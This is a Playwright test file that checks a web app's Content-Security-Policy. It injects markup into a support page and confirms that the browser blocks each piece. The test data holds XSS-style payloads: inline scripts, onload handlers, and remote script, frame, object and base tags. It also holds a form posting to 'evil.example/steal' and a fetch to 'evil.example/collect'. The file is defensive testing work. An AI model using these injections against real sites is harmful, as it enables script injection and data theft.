// The Content-Security-Policy in a real browser: our own pages do not violate it, and markup that
// somebody managed to inject into a page neither runs nor loads nor sends anything.
import type { Page } from '@playwright/test';
import { sample } from '../harness/app/long-form.ts';
import { PAGES } from './all-pages.ts';
import { expect, test } from './journey.ts';

test.use({ axeAtEnd: false });

const EVIL = 'https://evil.example';

/** Directives that the browser reported; journey.ts writes each violation to the console. */
function collectViolations(page: Page): string[] {
  const directives: string[] = [];
  page.on('console', (message) => {
    const directive = /^CSP violation: (\S+)/.exec(message.text())?.[1];
    if (directive) directives.push(directive);
  });
  return directives;
}

/**
 * Serves our page, headers included, with the markup at the end of its body, and lists the requests
 * to the other site.
 */
async function openWithMarkup(page: Page, markup: string): Promise<string[]> {
  const requests: string[] = [];
  await page.route(`${EVIL}/**`, (route) => {
    requests.push(route.request().url());
    return route.fulfill({ body: 'window.injected = true', contentType: 'text/javascript' });
  });
  await page.route('/support', async (route) => {
    const response = await route.fetch();
    await route.fulfill({
      response,
      body: (await response.text()).replace('</body>', `${markup}</body>`),
    });
  });
  // Not hydrated: React may remove foreign markup, and the browser alone must refuse it.
  await page.route('**/assets/*.js', (route) => route.abort());
  await page.goto('/support');
  return requests;
}

/**
 * journey.ts watches every page that a test opens; here are some that no other test of `npm test`
 * opens.
 */
test('no page violates it', { tag: '@long' }, async ({ page, watch }) => {
  watch.expectError(/status of 404/);
  const violations = collectViolations(page);
  for (const path of sample(PAGES, 8)) {
    await page.goto(path);
    expect(violations, path).toEqual([]);
  }
});

const INJECTED: [what: string, markup: string, directive: string][] = [
  ['an inline script', '<script>window.injected = true</script>', 'script-src-elem'],
  [
    'an inline event handler',
    '<img src="/favicon.svg" onload="window.injected = true">',
    'script-src-attr',
  ],
  ['a script of another site', `<script src="${EVIL}/x.js"></script>`, 'script-src-elem'],
  ['a picture of another site', `<img src="${EVIL}/x.png">`, 'img-src'],
  ['a picture in the address', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">', 'img-src'],
  ['a frame of another site', `<iframe src="${EVIL}/"></iframe>`, 'frame-src'],
  [
    'a stylesheet of another site',
    `<link rel="stylesheet" href="${EVIL}/x.css">`,
    'style-src-elem',
  ],
  ['an inline style', '<p style="position: fixed; inset: 0">cover</p>', 'style-src-attr'],
  ['a plug-in', `<object data="${EVIL}/x.pdf"></object>`, 'object-src'],
  ['a base address', `<base href="${EVIL}/">`, 'base-uri'],
];
test('markup that was injected neither runs nor loads nor sends', async ({ page, watch }) => {
  watch.expectError(
    /CSP violation|Content Security Policy|Failed to load resource|dynamically imported module/,
  );
  const violations = collectViolations(page);
  const form = `<form id="injected" action="${EVIL}/steal"><input name="a" value="b"></form>`;
  const requests = await openWithMarkup(page, INJECTED.map(([, markup]) => markup).join('') + form);
  for (const [what, , directive] of INJECTED)
    await expect.poll(() => violations, { message: what }).toContain(directive);
  expect(violations).toHaveLength(INJECTED.length);
  expect(await page.evaluate(() => 'injected' in window && window.injected === true)).toBe(false);
  expect(await page.evaluate(() => document.baseURI)).not.toContain(EVIL);

  violations.length = 0;
  await page.evaluate(() =>
    document.querySelector<HTMLFormElement>('form#injected')?.requestSubmit(),
  );
  await expect.poll(() => violations).toEqual(['form-action']);
  const fetched = await page.evaluate(
    (address) =>
      fetch(address).then(
        () => true,
        () => false,
      ),
    `${EVIL}/collect`,
  );
  expect(fetched).toBe(false);
  await expect.poll(() => violations).toEqual(['form-action', 'connect-src']);
  expect(requests).toEqual([]);
  expect(page.url()).toContain('/support');
});

test('no other site can frame a page', async ({ page, baseURL, watch }) => {
  watch.expectError(/frame|refused|Content Security Policy/i);
  await page.route('http://evil.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/account"></iframe>` }),
  );
  await page.goto('http://evil.example/');
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
});
